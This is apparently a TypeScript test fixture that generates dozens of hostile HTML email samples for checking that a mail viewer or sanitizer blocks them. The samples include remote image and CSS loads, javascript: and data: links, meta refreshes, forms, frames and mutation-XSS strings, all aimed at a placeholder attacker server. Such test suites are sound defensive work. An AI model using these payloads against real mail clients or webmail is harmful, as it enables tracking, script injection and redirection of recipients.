import { escapeAttribute, events, hostileScript, scripts, type Vector } from './hostile-scripts.ts'

/**
 * Mails that try to run something, load something, send something or lead somewhere. `evil` is the address of a server
 * that must not be reached. What must be pressed to work has the id `bait`.
 */
export interface HostileMail {
  name: string
  html: string
}

function pictures(evil: string): Vector[] {
  const url = `${evil}/pixel.png`
  return [
    ['picture', `<img src="${url}">`],
    ['picture without a scheme', `<img src="${url.replace('http:', '')}">`],
    ['picture by srcset', `<img srcset="${url} 1x, ${url}?2 2x">`],
    ['picture by source', `<picture><source srcset="${url}"><img></picture>`],
    ['picture loaded late', `<img loading="lazy" src="${url}" width="1" height="1">`],
    ['picture under its old name', `<image src="${url}">`],
    ['picture of a button', `<input type="image" src="${url}">`],
    ['picture of a body', `<body background="${url}">`],
    ['picture of a table', `<table background="${url}"><td background="${url}">Hello</table>`],
    ['picture of a video', `<video poster="${url}"></video>`],
    ['picture in SVG', `<svg><image href="${url}" width="9" height="9"></svg>`],
    ['picture in SVG by xlink', `<svg><image xlink:href="${url}" width="9" height="9"></svg>`],
    [
      'picture of a filter',
      `<svg><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ],
    ['part of another SVG', `<svg><use href="${evil}/a.svg#x"/></svg>`],
    [
      'picture in a picture',
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>">`,
    ],
    ['video', `<video autoplay src="${evil}/v.mp4"></video>`],
    ['video by source', `<video autoplay preload="auto"><source src="${evil}/v.mp4"></video>`],
    ['subtitles', `<video autoplay><track default src="${evil}/t.vtt"></video>`],
    ['audio', `<audio autoplay src="${evil}/a.mp3"></audio>`],
    ['background sound', `<bgsound src="${evil}/a.wav">`],
  ]
}

function styles(evil: string): Vector[] {
  const url = `${evil}/style.png`
  const rules: Vector[] = [
    ['background', `p { background: url(${url}) }`],
    ['background in escapes', `p { background: \\75\\72\\6c(${url}) }`],
    ['list', `p { display: list-item; list-style-image: url("${url}") }`],
    ['pointer', `p { cursor: url("${url}"), auto }`],
    ['border', `p { border: 9px solid; border-image: url("${url}") 9 }`],
    ['content', `p::before { content: url("${url}") }`],
    ['mask', `p { mask-image: url("${url}"); -webkit-mask-image: url("${url}") }`],
    ['filter', `p { filter: url("${url}#f") }`],
    ['clip', `p { clip-path: url("${url}#c") }`],
    ['image set', `p { background: image-set("${url}" 1x) }`],
    ['shape', `p { float: left; shape-outside: url("${url}") }`],
    ['font', `@font-face { font-family: f; src: url("${evil}/f.woff2") } p { font-family: f }`],
    ['import', `@import url("${evil}/a.css");`],
    ['import by text', `@import "${evil}/a.css";`],
    ['import of a layer', `@import "${evil}/a.css" layer(a);`],
    ['variable', `:root { --u: url("${url}") } p { background: var(--u) }`],
    ['attribute reader', `p[title^="a"] { background: url("${url}?a") }`],
    ['expression', `p { width: expression(document.documentElement.dataset.ran=1) }`],
    ['binding', `p { -moz-binding: url("${evil}/b.xml#b"); behavior: url("${evil}/b.htc") }`],
  ]
  return [
    ...rules.map(([name, css]): Vector => [`style: ${name}`, `<style>${css}</style><p title="a">Hello</p>`]),
    ['style of an element', `<p style="background: url('${url}'); list-style: url('${url}')">Hello</p>`],
    [
      'style in SVG',
      `<svg><style>@import "${evil}/a.css"; rect { fill: url("${url}#x") }</style><rect width="9" height="9"/></svg>`,
    ],
    ['style sheet', `<link rel="stylesheet" href="${evil}/a.css">`],
    ['style sheet of XML', `<?xml-stylesheet href="${evil}/a.css"?>`],
  ]
}

/** Connections that a page may announce; not all of them ask its policy. */
const announcements = [
  'prefetch',
  'prerender',
  'preconnect',
  'dns-prefetch',
  'preload',
  'modulepreload',
  'icon',
  'manifest',
]

function ways(evil: string): Vector[] {
  const run = escapeAttribute(hostileScript(evil))
  const link = (address: string, more = '') => `<a id="bait" href="${address}" ${more}>Hello</a>`
  return [
    ...announcements.map(
      (rel): Vector => [`link element: ${rel}`, `<link rel="${rel}" as="image" href="${evil}/${rel}">`],
    ),
    ['refresh', `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`],
    ['refresh with odd spaces', `<meta http-equiv="  refresh" content="0 ; URL='${evil}/refresh'">`],
    ['refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
    [
      'refresh to a document',
      `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
    ],
    ['base address', `<base href="${evil}/"><img src="relative.png">${link('relative')}`],
    ['base target', `<base target="_top">${link(`${evil}/top`)}`],
    ['link', link(`${evil}/link`)],
    ['link to the top', link(`${evil}/link`, 'target="_top"')],
    ['link to the parent', link(`${evil}/link`, 'target="_parent"')],
    ['link to a new window', link(`${evil}/link`, 'target="_blank" rel="opener"')],
    ['link that downloads', link(`${evil}/link`, 'download')],
    ['link that pings', link('#x', `ping="${evil}/ping"`)],
    [
      'link in SVG',
      `<svg width="90" height="30"><a href="${evil}/svg"><text id="bait" y="20">Hello</text></a></svg>`,
    ],
    [
      'link in SVG by xlink',
      `<svg width="90" height="30"><a xlink:href="${evil}/svg"><text id="bait" y="20">Hello</text></a></svg>`,
    ],
    [
      'link that is animated',
      `<svg width="90" height="30"><a><animate attributeName="href" values="${evil}/svg" begin="0s" fill="freeze"/><text id="bait" y="20">Hello</text></a></svg>`,
    ],
    ['link in MathML', `<math href="${evil}/math" id="bait"><mtext>Hello</mtext></math>`],
    [
      'link of a map',
      `<img usemap="#m" width="90" height="30" id="bait" alt="Hello"><map name="m"><area shape="default" href="${evil}/area"></map>`,
    ],
    [
      'link in a shadow',
      `<div id="bait"><template shadowrootmode="open"><a href="${evil}/shadow">Hello</a></template></div>`,
    ],
    ['script link', link(`javascript:${run}`)],
    ['script link in capitals', link(`JaVaScRiPt:${run}`)],
    ['script link with a tab', link(`java&#9;script:${run}`)],
    ['script link with a line', link(`&#1;java&#10;script:${run}`)],
    ['script link in a table', `<table><td>${link(`javascript:${run}`)}</table>`],
    ['document link', link(`data:text/html,<script>${run}</script>`)],
    [
      'text that turns into a link',
      `<svg></p><style><a title="</style><a id=bait href='${evil}/mutated'>Hello</a>">`,
    ],
    [
      'text that turns into a connection',
      `<math><mtext><table><mglyph><style><!--</style><img title="--><link rel=preconnect href='${evil}'>">`,
    ],
    ['form', `<form action="${evil}/form"><button id="bait">Hello</button></form>`],
    [
      'form by post',
      `<form method="post" action="${evil}/form" target="_top"><input name="a" value="1"><input type="submit" id="bait"></form>`,
    ],
    [
      'form of a button',
      `<form id="f"></form><button id="bait" form="f" formaction="${evil}/form">Hello</button>`,
    ],
    ['form of a script', `<form action="javascript:${run}"><button id="bait">Hello</button></form>`],
  ]
}

function documents(evil: string): Vector[] {
  const run = hostileScript(evil)
  const inner = escapeAttribute(
    `<script>${run}</script><img src="${evil}/inner.png"><a id="bait" href="${evil}/inner">Hello</a>`,
  )
  return [
    ['frame', `<iframe src="${evil}/frame"></iframe>`],
    ['frame of a script', `<iframe src="javascript:${escapeAttribute(run)}"></iframe>`],
    [
      'frame of a document',
      `<iframe src="data:text/html,<script>${escapeAttribute(run)}</script>"></iframe>`,
    ],
    ['nested frame', `<iframe srcdoc="${inner}"></iframe>`],
    [
      'frame that allows itself all',
      `<iframe sandbox="allow-scripts allow-top-navigation allow-popups" srcdoc="${inner}"></iframe>`,
    ],
    ['frames', `<frameset><frame src="${evil}/frame"></frameset>`],
    ['object', `<object data="${evil}/object.html"></object>`],
    [
      'object of SVG',
      `<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${escapeAttribute(run)}'/>"></object>`,
    ],
    ['embedded thing', `<embed src="${evil}/embed.svg">`],
    ['embedded script', `<embed src="javascript:${escapeAttribute(run)}">`],
    ['applet', `<applet code="a.class" archive="${evil}/a.jar"></applet>`],
    ['portal', `<portal src="${evil}/portal"></portal>`],
    ['fenced frame', `<fencedframe src="${evil}/fenced"></fencedframe>`],
    [
      'custom policy',
      `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${evil}/policy.png">`,
    ],
    ['application of old', `<html manifest="${evil}/cache.manifest"><p>Hello</p>`],
  ]
}

export function hostileMails(evil: string): HostileMail[] {
  const groups = [scripts, events, pictures, styles, ways, documents]
  return groups.flatMap(vectors => vectors(evil)).map(([name, html]) => ({ name, html }))
}
